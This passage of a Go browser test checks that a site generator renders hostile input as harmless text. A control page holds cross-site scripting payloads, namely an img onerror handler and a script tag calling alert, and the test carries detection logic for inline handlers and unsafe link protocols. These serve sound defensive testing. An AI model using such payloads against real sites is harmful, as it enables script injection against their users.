	for (const kind of ["mouseover", "mouseenter", "mousedown", "focus", "toggle", "load", "error"]) e.dispatchEvent(new Event(kind));
	for (const a of e.attributes) if (a.name.startsWith("on")) window.pwned = e.outerHTML;
	for (const a of ["href", "src", "action", "xlink:href"]) {
		const address = e.getAttribute(a);
		if (address !== null && !/^(https?|mailto|tel):$/.test(new URL(address, location).protocol)) window.pwned = e.outerHTML;
	}
})`

// A sight is what a browser made of a page.
type sight struct {
	Pwned string   // what ran, or could
	Kinds []string // elements with their attributes: "a[href]"
	Text  string   // what is there to read, in elements and attributes
}

const look = `(() => {
	const all = [...document.querySelectorAll("*")];
	return JSON.stringify({
		pwned: window.pwned === undefined ? "" : String(window.pwned),
		kinds: [...new Set(all.flatMap(e => [e.localName, ...[...e.attributes].map(a => e.localName + "[" + a.name + "]")]))],
		text: [document.title, document.body.textContent, ...all.flatMap(e => [...e.attributes].map(a => a.value))].join("\n"),
	});
})()`

// see opens a page and gives what a browser made of it, and what went on:
// dialogs, messages on the console, requests for anything but the page, its
// icon and its own pictures.
func see(t *testing.T, v *visit, address string) (s sight, events []string) {
	t.Helper()
	v.mu.Lock()
	v.console, v.requests = nil, nil
	v.mu.Unlock()
	v.do(t, chromedp.Navigate(address), chromedp.Evaluate[chromedp.Void](touch))
	s = describe(t, v)
	v.mu.Lock()
	defer v.mu.Unlock()
	events = append(events, v.console...)
	for _, url := range v.requests {
		if host := address[:strings.Index(address[8:], "/")+8]; !strings.HasPrefix(url, host+"/") {
			events = append(events, "a request for "+url)
		}
	}
	return s, events
}

// describe gives what a browser made of the page that a tab shows.
func describe(t *testing.T, v *visit) (s sight) {
	t.Helper()
	if err := json.Unmarshal([]byte(eval[string](t, v, look)), &s); err != nil {
		t.Fatal(err)
	}
	return s
}

// openTrap opens a tab in which a dialog, which would stop everything, is kept
// in window.pwned instead.
func openTrap(t *testing.T) *visit {
	t.Helper()
	v := open(t, 1280, "light")
	trap, err := chromedp.Call(v, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{
		Source: `alert = confirm = prompt = () => { window.pwned = "a dialog" }`})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { // the tab is for other tests, too
		if _, err := chromedp.Call(v, page.RemoveScriptToEvaluateOnNewDocument, page.RemoveScriptToEvaluateOnNewDocumentParams(trap)); err != nil {
			t.Error(err)
		}
	})
	return v
}

// share has several tabs at work on the same list of addresses.
func share(t *testing.T, addresses []string, visit func(t *testing.T, v *visit, address string)) {
	t.Helper()
	todo := make(chan string, len(addresses))
	for _, address := range addresses {
		todo <- address
	}
	close(todo)
	t.Run("tabs", func(t *testing.T) { // which ends when all of them have
		for n := range cap(slots) {
			t.Run(fmt.Sprint(n+1), func(t *testing.T) {
				t.Parallel()
				v := openTrap(t)
				for address := range todo {
					visit(t, v, address)
				}
			})
		}
	})
}

// Each attack that is not refused is shown as the text that it is. The pages
// are served without their policy, which would keep a script from running: it
// is the last resort, and not what this rests on.
func TestHostileIsInert(t *testing.T) {
	browse(t)
	source, _ := plant(t, inert)
	public := filepath.Join(t.TempDir(), "public")
	if err := build(site.Settings{Source: source, Destination: public}); err != nil {
		t.Fatal(err)
	}
	pages, err := findPages(public)
	if err != nil {
		t.Fatal(err)
	}
	files := http.FileServer(http.Dir(public))
	server := httptest.NewServer(withIcon(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		recorder := httptest.NewRecorder()
		files.ServeHTTP(recorder, r)
		w.Header().Set("Content-Type", recorder.Header().Get("Content-Type"))
		body := recorder.Body.Bytes()
		if r.URL.Path == "/control/" {
			body = []byte(control)
			w.Header().Set("Content-Type", "text/html")
		} else {
			w.WriteHeader(recorder.Code)
		}
		w.Write(strict.ReplaceAll(body, []byte("name=$1")))
	})))
	defer server.Close()

	// What a site's pages are made of without an attack, and what Markdown, a
	// picture and a chart add to that: an attack adds nothing.
	usual := map[string]bool{}
	for _, kind := range strings.Fields(`code s table caption thead tr th th[scope] tbody td div[tabindex] div[aria-label] figure[class] figure[id] sup sup[id] a[role] a[title] a[aria-label] div div[role] hr img img[src] img[alt] img[title]
		svg[class] svg[role] svg[aria-label] text text[x] text[y] tspan tspan[x] tspan[dy] figcaption[class] table[aria-label] g g[class] path[class] path[stroke-width] path[stroke-linejoin] circle circle[cx] circle[cy] circle[r] circle[fill] text[text-anchor]`) {
		usual[kind] = true
	}
	var mu sync.Mutex // for what the tabs find
	fixture := fixtureSite(t)
	share(t, fixture.pages, func(t *testing.T, v *visit, page string) {
		v.do(t, chromedp.Navigate(fixture.address+page))
		s := describe(t, v)
		mu.Lock()
		defer mu.Unlock()
		for _, kind := range s.Kinds {
			usual[kind] = true
		}
	})

	text := ""
	share(t, append(pages, "/control/"), func(t *testing.T, v *visit, page string) {
		s, events := see(t, v, server.URL+page)
		if page == "/control/" {
			if s.Pwned == "" || len(events) < 3 || !slices.Contains(s.Kinds, "img[onerror]") {
				t.Errorf("an attack that succeeds is not seen: %+v, %q", s, events)
			}
			return
		}
		if s.Pwned != "" {
			t.Errorf("%s: it runs: %s", page, s.Pwned)
		}
		for _, event := range events {
			t.Errorf("%s: %s", page, event)
		}
		for _, kind := range s.Kinds {
			if !usual[kind] {
				t.Errorf("%s: it has a %s", page, kind)
			}
		}
		mu.Lock()
		defer mu.Unlock()
		text += s.Text + "\n"
	})
	for i, a := range inert {
		if !strings.Contains(text, a.want) {
			t.Errorf("%s, number %d, is not shown as %q", a.name, i, a.want)
		}
	}
	if strings.Contains(text, "unpublished") {
		t.Error("what stands in a comment is published")
	}
}

// strict is what has a browser keep to a page's policy, or leave the page for the one that it leads to.
var strict = regexp.MustCompile(`http-equiv=("?(?:Content-Security-Policy|refresh))`)

// control is a page whose attacks succeed.
const control = `<!doctype html><title>x</title><img src=x onerror="window.pwned=1;console.log(1)"><img src=//127.0.0.1:65535/x.png><script>window.pwned=1;console.log(2);alert(1)</script>`
